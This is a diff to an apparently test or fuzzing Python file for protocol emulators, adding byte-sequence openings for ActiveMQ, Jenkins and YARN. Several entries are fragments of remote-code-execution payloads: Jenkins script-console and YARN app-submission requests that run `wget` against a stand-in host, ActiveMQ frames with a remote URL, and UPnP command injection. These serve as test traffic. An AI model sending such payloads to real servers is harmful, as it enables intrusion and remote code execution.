@@ -29,6 +29,10 @@ PLACE = f"{POD.namespace}/{POD.name}/{POD.container}".encode()
 
 # What leads a room through its stages, in order; each piece ends where a new stage begins.
 OPENINGS: dict[str, tuple[bytes, ...]] = {
+    "activemq": (
+        b"\0\0\0\x0a", b"\x0a" + bytes(9), b"\0\0\0\x1f\x1f" + bytes(9), b"\1\1\0\5a.b.c\1\0\x09http://a/",
+        b"\0\0\0\x08\3\0\0\0\1\1\1\x78",
+    ),
     "adb": (
         CONNECT, frame(b"OPEN", 1, 0, b"sync:\0"), frame(b"WRTE", 1, 1, b"SEND\x09\0\0\0/data"),
         frame(b"WRTE", 1, 1, b"/f,7DATA\x09\0\0\0abc")[:-2],
@@ -46,6 +50,11 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
     "http": (
         b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
         b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
+    ),
+    "jenkins": (
+        b"POST /scriptText HTTP/1.1\r\nHost: a\r\nContent-Length: 36\r\n\r\n", b"script='wget",
+        b"%20http://a/b'.execute()", b"GET /script HTTP/1.1\r\n\r\n",
+        b"POST /cli HTTP/1.1\r\nSession: a\r\nSide: download\r\n\r\n",
     ),
     "kubelet": (
         b"GET /pods HTTP/1.1\r\nHost: a\r\n\r\n",
@@ -71,6 +80,10 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 56\r\n\r\n",
         b"<NewInternalClient>`wget", b" http://a/b`</NewInternalClient>", b"GET /wanipcn.xml HTTP/1.1\r\n\r\n",
     ),
+    "yarn": (
+        b"POST /ws/v1/cluster/apps HTTP/1.1\r\nContent-Length: 67\r\n\r\n", b'{"am-container-spec":{"commands":',
+        b'{"command":"wget http://a/b;id"}}}', b"GET /ws/v1/cluster/apps HTTP/1.1\r\n\r\n",
+    ),
 }  # fmt: skip
 # Of what a test sends at random, much is what these rooms listen to.
 WORDS = [
@@ -89,6 +102,9 @@ WORDS = [
     b"POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: a#AddPortMapping\r\nContent-Length: 25\r\n\r\n",
     b"<NewInternalClient>`id`</",
     b"M-SEARCH * HTTP/1.1\r\nST:ssdp:all\r\n\r\n", b"SUBSCRIBE /a HTTP/1.1\r\nCallback: <http://a/>\r\n\r\n",
+    b"POST /cli HTTP/1.1\r\nSession: a\r\nSide: upload\r\nContent-Length: 15\r\n\r\n", b"\0\0\0\x0a\0\0\x08who-am-i",
+    b"POST /script HTTP/1.1\r\nContent-Length: 33\r\n\r\n", b"script='wget+http://a/b'.execute()",
+    b"\0\0\0\x20\x1f" + bytes(10) + b"\1\0\5a.b.c\1\0\x0ahttp://a/b", b"\0\0\0\6\5\0\0\0\1\1",
     b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
 ]  # fmt: skip
 
